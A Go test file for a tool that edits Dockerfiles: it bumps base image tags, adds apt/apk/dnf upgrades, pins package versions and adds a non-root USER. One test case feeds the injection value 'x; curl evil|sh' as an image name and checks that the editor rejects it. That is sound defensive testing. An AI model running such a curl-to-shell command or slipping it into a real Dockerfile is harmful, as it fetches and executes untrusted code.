package assess_test

import (
	"bytes"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/moby/buildkit/frontend/dockerfile/parser"

	"tidewaiter/assess"
)

func parse(t *testing.T, source string, args map[string]string) *assess.Dockerfile {
	t.Helper()
	d, err := assess.ParseDockerfile("Dockerfile", []byte(source), args)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestOneInstructionIsEdited(t *testing.T) {
	const digest = "sha256:0000000000000000000000000000000000000000000000000000000000000000"
	base := func(line int, reference string) func(*assess.Dockerfile) (*assess.Edit, error) {
		return func(d *assess.Dockerfile) (*assess.Edit, error) { return d.SetBase(line, reference, digest) }
	}
	upgrade := func(purlType string) func(*assess.Dockerfile) (*assess.Edit, error) {
		return func(d *assess.Dockerfile) (*assess.Edit, error) { return d.AddUpgrade(purlType) }
	}
	pin := func(d *assess.Dockerfile) (*assess.Edit, error) {
		return d.SetPin("curl", "7.88.1-10", "7.88.1-10+deb12u5")
	}
	user := func(d *assess.Dockerfile) (*assess.Edit, error) { return d.AddUser("65532") }
	for _, tc := range []struct {
		name, source string
		args         map[string]string
		edit         func(*assess.Dockerfile) (*assess.Edit, error)
		old, new     string // what changes in the source; equal where the edit is refused
		says         string // the error's words
	}{
		{"a tag", "# x\nFROM debian:12.4-slim\nRUN make\n", nil, base(0, "debian:12.9-slim"), "12.4-slim", "12.9-slim", ""},
		{"platform and name stay", "FROM  --platform=$BUILDPLATFORM\tdebian:12.4   AS  final\r\nRUN make\r\n", nil, base(0, "debian:12.9"), "12.4", "12.9", ""},
		{"a digest is kept beside the tag", "FROM debian:12@sha256:11\n", nil, base(0, "debian:12"), "sha256:11", digest, ""},
		{"the repository as it is written", "FROM docker.io/library/debian:12.4\n", nil, base(0, "debian:12.9"), "12.4", "12.9", ""},
		{"a registry's port is no tag", "FROM localhost:5000/debian\n", nil, base(0, "localhost:5000/debian:13"), "debian", "debian:13", ""},
		{"the stage that the image is built on", "FROM golang:1.22 AS build\nRUN go build\nFROM debian:12 AS base\nFROM base\nCOPY --from=build /a /a\n", nil,
			base(0, "debian:13"), "debian:12", "debian:13", ""},
		{"the line that is named", "FROM debian:12 AS a\nFROM alpine:3.18 AS b\n", nil, base(1, "debian:13"), "debian:12", "debian:13", ""},
		{"an argument for the tag", "ARG TAG=12.4\nFROM debian:${TAG}-slim\n", nil, base(0, "debian:12.9-slim"), "TAG=12.4", "TAG=12.9", ""},
		{"an argument for all of it", "ARG BASE=\"debian:12\"\nFROM $BASE\n", nil, base(0, "debian:13"), "x", "x", "does not stand there once"},
		{"an argument for all of it, unquoted", "ARG BASE=debian:12\nFROM $BASE\n", nil, base(0, "debian:13"), "debian:12", "debian:13", ""},
		{"an argument that was given", "ARG TAG=12.4\nFROM debian:$TAG\n", map[string]string{"TAG": "12.6"}, base(0, "debian:12.9"), "x", "x", "--build-arg TAG=12.9"},
		{"an argument that has no default", "ARG BASE\nFROM ${BASE}\n", nil, base(0, "debian:13"), "x", "x", "--build-arg BASE=debian:13"},
		{"a name that an image made up", "ARG BASE\nFROM ${BASE}\n", nil, base(0, "x; curl evil|sh:13"), "x", "x", "is no name for a base image"},
		{"two arguments", "ARG A=debian\nARG B=12\nFROM $A:$B\n", nil, base(0, "debian:13"), "x", "x", "no single one of them"},
		{"nothing changes", "FROM debian:12\n", nil, base(0, "debian:12"), "x", "x", "stays as it is"},

		{"apt, over lines", "FROM debian:12\nRUN set -e; \\\n    # a comment, apt-get update\n    apt-get update \\\n && apt-get install -y curl\n", nil, upgrade("deb"),
			"    apt-get update \\\n", "    apt-get update && apt-get upgrade -y \\\n", ""},
		{"apt with options", "FROM debian:12\nRUN apt-get -o Acquire::Check=0 update && apt-get install curl\n", nil, upgrade("deb"), "x", "x", "no instruction"},
		{"apt -qq", "FROM debian:12\nRUN apt-get -qq update; apt-get install curl\n", nil, upgrade("deb"), "-qq update", "-qq update && apt-get -qq upgrade -y", ""},
		{"apt in a here-document", "FROM debian:12\nRUN <<EOF\napt-get update\napt-get install -y curl\nEOF\n", nil, upgrade("deb"), "apt-get update", "apt-get update && apt-get upgrade -y", ""},
		{"apt whose failure is allowed", "FROM debian:12\nRUN apt-get update || true\n", nil, upgrade("deb"), "x", "x", "no instruction"},
		{"not in another stage", "FROM debian:12 AS build\nRUN apt-get update && apt-get install gcc\nFROM debian:12\nCOPY --from=build /a /a\n", nil, upgrade("deb"), "x", "x", "no instruction"},
		{"upgraded already", "FROM debian:12\nRUN apt-get update && apt-get dist-upgrade -y\n", nil, upgrade("deb"), "x", "x", "upgrades all packages already"},
		{"apk", "FROM alpine:3.18\nRUN apk add --no-cache curl\n", nil, upgrade("apk"), "apk add", "apk upgrade --no-cache && apk add", ""},
		{"dnf", "FROM fedora:40\nRUN microdnf -y install curl\n", nil, upgrade("rpm"), "microdnf -y", "microdnf upgrade -y && microdnf -y", ""},

		{"a pinned version", "FROM debian:12\nRUN apt-get install -y \\\n  curl=7.88.1-10 \\\n  libcurl=7.88.1-10\n", nil, pin, " curl=7.88.1-10", " curl=7.88.1-10+deb12u5", ""},
		{"pinned twice", "FROM debian:12\nRUN apt-get install curl=7.88.1-10\nRUN apt-get install curl=7.88.1-10\n", nil, pin, "x", "x", "not one instruction"},

		{"npm ci", "FROM node:18\nRUN npm ci --cache /tmp\n", nil, func(d *assess.Dockerfile) (*assess.Edit, error) { return d.OmitDev() }, "npm ci", "npm ci --omit=dev", ""},

		{"a user, before what is started", "FROM debian:12\nCOPY a /a\nEXPOSE 80\nENTRYPOINT [\"/a\"]\nCMD [\"b\"]\n", nil, user, "ENTRYPOINT", "USER 65532\nENTRYPOINT", ""},
		{"a user in place of root", "FROM debian:12\nUSER root\nCMD [\"b\"]\n", nil, user, "USER root", "USER 65532", ""},
		{"a user after which something is installed", "FROM debian:12\nCMD [\"b\"]\nRUN make install\n", nil, user, "x", "x", "add USER 65532 by hand"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e, err := tc.edit(parse(t, tc.source, tc.args))
			if tc.says != "" {
				if err == nil || !strings.Contains(err.Error(), tc.says) {
					t.Fatalf("edit %+v, error %v; want one that says %q", e, err, tc.says)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			got, err := e.Apply([]byte(tc.source))
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(strings.Replace(tc.source, tc.old, tc.new, 1), string(got)); d != "" {
				t.Error(d)
			}
		})
	}
}

func TestAnEditOfAChangedFileIsRefused(t *testing.T) {
	e, err := parse(t, "FROM debian:12\n", nil).SetBase(0, "debian:13", "")
	if err != nil {
		t.Fatal(err)
	}
	for _, source := range []string{"", "FROM debian:12.1\n"} {
		if _, err := e.Apply([]byte(source)); err == nil {
			t.Errorf("%q was edited", source)
		}
	}
}

// Every edit of every Dockerfile of the corpus touches one instruction, or is refused.
func TestTheCorpusIsEditedOneInstructionAtATime(t *testing.T) {
	root := filepath.Join("..", "..", "shared", "conformance", "dockerfiles")
	if _, err := os.Stat(root); err != nil {
		t.Skip("no corpus here")
	}
	edited := map[string]int{}
	err := filepath.WalkDir(root, func(path string, entry fs.DirEntry, err error) error {
		if err != nil || !entry.Type().IsRegular() || !strings.HasPrefix(entry.Name(), "Dockerfile") {
			return err
		}
		source, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		d, err := assess.ParseDockerfile(path, source, nil)
		if err != nil {
			return nil //nolint:nilerr // files that builders refuse are among them
		}
		name, _ := d.Base(0)
		repository, _ := assess.BaseTag(name)
		for kind, edit := range map[string]func() (*assess.Edit, error){
			"base": func() (*assess.Edit, error) { return d.SetBase(0, repository+":99.1", "sha256:99") },
			"deb":  func() (*assess.Edit, error) { return d.AddUpgrade("deb") },
			"apk":  func() (*assess.Edit, error) { return d.AddUpgrade("apk") },
			"rpm":  func() (*assess.Edit, error) { return d.AddUpgrade("rpm") },
			"npm":  d.OmitDev,
			"user": func() (*assess.Edit, error) { return d.AddUser("65532") },
		} {
			e, err := edit()
			if err != nil {
				continue
			}
			edited[kind]++
			after, err := e.Apply(source)
			if err != nil {
				return err
			}
			if n := differing(t, source, after); n != 1 {
				t.Errorf("%s: %s: %d instructions differ: %+v", path, kind, n, e)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("edited: %v", edited)
	for _, kind := range []string{"base", "deb"} {
		if edited[kind] < 10 {
			t.Errorf("%s: only %d files of the corpus were edited", kind, edited[kind])
		}
	}
}

// differing counts the instructions that were changed or added.
func differing(t *testing.T, before, after []byte) int {
	t.Helper()
	texts := func(source []byte) (list []string) {
		result, err := parser.Parse(bytes.NewReader(source))
		if err != nil {
			t.Fatal(err)
		}
		for _, n := range result.AST.Children {
			list = append(list, fmt.Sprint(n.Original, n.Flags, n.Heredocs))
		}
		return list
	}
	a, b := texts(before), texts(after)
	same := 0
	for same < len(a) && a[same] == b[same] {
		same++
	}
	end := 0
	for end < len(a)-same && a[len(a)-1-end] == b[len(b)-1-end] {
		end++
	}
	return len(b) - same - end
}
